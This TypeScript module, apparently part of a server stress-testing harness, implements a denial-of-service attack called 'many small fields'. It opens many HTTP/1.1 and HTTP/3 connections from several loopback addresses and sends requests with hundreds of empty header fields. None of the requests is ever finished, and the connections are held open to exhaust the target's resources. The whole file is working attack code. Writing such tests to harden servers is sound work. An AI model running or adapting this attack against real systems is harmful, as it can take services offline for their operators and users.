import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Tally, Target } from "../attack.ts";
import { connectTls } from "../clients/raw-http2.ts";
import { RawHttp3 } from "../clients/raw-http3.ts";
import { signIn, signInLines } from "../clients/sign-in.ts";

/** Several, as one may hold only so many requests; and connections of each. A connection over HTTP/3 takes 0.2 MB by itself. */
const sources = ["127.0.25.1", "127.0.26.1", "127.0.27.1", "127.0.28.1"];
const connections = { http1: 50, http3: 15 } as const;
/** Requests on a connection over HTTP/3. */
const streams = 9;
/** Numbers of fields: as many as there is room for, and nearly as many as a request may have. */
const counts = { http1: [950, 120], http3: [440, 120] } as const;

/** Sends requests from a source until `signal` aborts. @param kind index in `counts`. */
type Ask = (target: Target, from: string, kind: number, signal: AbortSignal, tally: Tally) => Promise<void>;

/** Unfinished requests with many empty fields, to a route that needs no token. */
export const smallFields: Attack = {
  name: "many small fields",
  unit: "requests",
  async run(target, signal, tally) {
    const asks = sources.flatMap((from) =>
      Array.from({ length: connections.http1 + connections.http3 }, async (_, i) => {
        const ask = i < connections.http1 ? overHttp1 : overHttp3;
        while (!signal.aborted) {
          await ask(target, from, i % 2, signal, tally);
          await sleep(20);
        }
      }),
    );
    await Promise.all(asks);
  },
};

const overHttp1: Ask = async (target, from, kind, signal, tally) => {
  const socket = await connectTls(target, "http/1.1", from);
  const fields = emptyFields(counts.http1[kind]!).map(([name]) => `${name}:\r\n`);
  socket.resume().write(`${signInLines(target)}${fields.join("")}content-length: 9\r\n\r\n`);
  if (!socket.destroyed) tally();
  while (!socket.destroyed && !signal.aborted) await sleep(50);
  socket.destroy();
};

const overHttp3: Ask = async (target, from, kind, signal, tally) => {
  const client = await RawHttp3.open(target, { from });
  const fields = [...signIn(target), ...emptyFields(counts.http3[kind]!)];
  for (let i = 0; i < streams && client.hasRoom && !signal.aborted; i++, tally()) {
    client.request(fields, false);
    await sleep(30);
  }
  while (!client.isClosed && !signal.aborted) await sleep(50);
  client.close();
};

function emptyFields(count: number): (readonly [string, string])[] {
  return Array.from({ length: count }, (_, i) => [`x${i.toString(36)}`, ""] as const);
}
